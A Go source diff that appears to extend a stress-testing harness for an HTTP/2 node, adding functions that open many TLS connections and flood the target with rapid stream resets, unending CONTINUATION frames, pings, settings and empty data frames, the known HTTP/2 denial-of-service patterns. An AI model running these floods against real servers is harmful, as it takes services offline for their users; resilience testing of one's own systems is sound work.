@@ -8,6 +8,7 @@ import (
 	"context"
 	"crypto/tls"
 	"encoding/binary"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -200,18 +201,11 @@ func Heads(n int) Attack {
 		config := a.TLS.Clone()
 		config.NextProtos = []string{"h2"}
 		for c := range n {
-			text := frame([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), settings, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // no window
+			text := frame([]byte(preface), settings, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // no window
 			for i := range 32 {
-				r, err := a.head(3*(c+i)+2, http.Header{"X-Filling": {strings.Repeat("x", 7000)}, "Content-Length": {"1000"}})
+				head, err := a.fields(3*(c+i)+2, http.Header{"X-Filling": {strings.Repeat("x", 7000)}, "Content-Length": {"1000"}})
 				if err != nil {
 					return err
-				}
-				var head []byte
-				for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/invitations"}, {":authority", r.Host}} {
-					head = field(head, f[0], f[1])
-				}
-				for name := range r.Header {
-					head = field(head, strings.ToLower(name), r.Header.Get(name))
 				}
 				flags := byte(endHeaders)
 				if i%4 == 3 {
@@ -232,9 +226,135 @@ func Heads(n int) Attack {
 	}}
 }
 
+// Floods are connections of HTTP/2 that send frames which cost the node more than the sender, as fast as it takes them, until it ends the
+// connection or had so many: requests that are reset at once, a header that is continued without end, pings and settings whose answers
+// nobody reads, and empty parts of a body.
+func Floods(connections, frames int) []Attack {
+	kinds := floodKinds()
+	all := make([]Attack, len(kinds))
+	for i, kind := range kinds {
+		all[i] = Attack{fmt.Sprintf("%d connections that flood with %s", connections, kind.name), true, flood(connections, frames, kind)}
+	}
+	return all
+}
+
+// Flood is all of them at once, each over so many connections.
+func Flood(connections, frames int) Attack {
+	return Attack{fmt.Sprintf("%d connections of each flood of HTTP/2", connections), true, func(ctx context.Context, a Target) error {
+		all := Floods(connections, frames)
+		ended := make(chan error, len(all))
+		for _, x := range all {
+			go func() { ended <- x.Run(ctx, a) }()
+		}
+		var errs []error
+		for range all {
+			errs = append(errs, <-ended)
+		}
+		return errors.Join(errs...)
+	}}
+}
+
+// floodKind is a kind of flood: what comes first on a connection, and what comes again and again.
+type floodKind struct {
+	name  string
+	first func(a Target) ([]byte, error)
+	again func(a Target, i int) ([]byte, error)
+}
+
+func floodKinds() []floodKind {
+	nothing := func(Target) ([]byte, error) { return nil, nil }
+	same := func(text []byte) func(Target, int) ([]byte, error) {
+		return func(Target, int) ([]byte, error) { return text, nil }
+	}
+	request := func(a Target, flags byte, stream int) ([]byte, error) {
+		head, err := a.fields(stream, nil)
+		return frame(nil, headers, flags, stream, head), err
+	}
+	open := func(flags byte) func(Target) ([]byte, error) {
+		return func(a Target) ([]byte, error) { return request(a, flags, 1) }
+	}
+	return []floodKind{
+		{"resets", nothing, func(a Target, i int) ([]byte, error) {
+			text, err := request(a, endHeaders|endStream, 2*i+1)
+			return frame(text, reset, 0, 2*i+1, []byte{0, 0, 0, 8}), err // CANCEL
+		}},
+		{"continuations", open(0), same(frame(nil, continuation, 0, 1, field(nil, "x-filling", strings.Repeat("x", 8000))))},
+		{"pings", nothing, same(frame(nil, ping, 0, 0, make([]byte, 8)))},
+		{"settings", nothing, same(frame(nil, settings, 0, 0, nil))},
+		{"empty data", open(endHeaders), same(frame(nil, data, 0, 1, nil))},
+	}
+}
+
+// floodBatch is how many frames are written at once.
+const floodBatch = 100
+
+func flood(connections, frames int, kind floodKind) func(context.Context, Target) error {
+	return func(ctx context.Context, a Target) error {
+		config := a.TLS.Clone()
+		config.NextProtos = []string{"h2"}
+		first, err := kind.first(a)
+		if err != nil {
+			return err
+		}
+		var batches [][]byte
+		for i := 0; i < frames; {
+			var b []byte
+			for range floodBatch {
+				text, err := kind.again(a, i)
+				if err != nil {
+					return err
+				}
+				b = append(b, text...)
+				i++
+			}
+			batches = append(batches, b)
+		}
+		var group sync.WaitGroup
+		defer group.Wait()
+		for range connections {
+			group.Go(func() {
+				conn, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", a.Address)
+				if err != nil {
+					return // the node takes no more
+				}
+				context.AfterFunc(ctx, func() { conn.Close() })
+				_ = conn.SetWriteDeadline(time.Now().Add(10 * time.Second)) // what is not taken within this time is not going to be
+				_, err = conn.Write(append(frame([]byte(preface), settings, 0, 0, nil), first...))
+				for _, b := range batches {
+					if err != nil {
+						return // the node has ended the connection
+					}
+					_, err = conn.Write(b)
+				}
+			})
+		}
+		return nil
+	}
+}
+
+// fields are the headers of a call that some stranger sends, as the payload of a frame.
+func (a Target) fields(i int, more http.Header) ([]byte, error) {
+	r, err := a.head(i, more)
+	if err != nil {
+		return nil, err
+	}
+	var head []byte
+	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/invitations"}, {":authority", r.Host}} {
+		head = field(head, f[0], f[1])
+	}
+	for name := range r.Header {
+		head = field(head, strings.ToLower(name), r.Header.Get(name))
+	}
+	return head, nil
+}
+
+// preface begins a connection of HTTP/2.
+const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
 // Of the frames of HTTP/2.
 const (
-	headers, settings     = 1, 4
+	data, headers, reset, settings, ping, continuation = 0, 1, 3, 4, 6, 9
+
 	endStream, endHeaders = 1, 4
 )
 
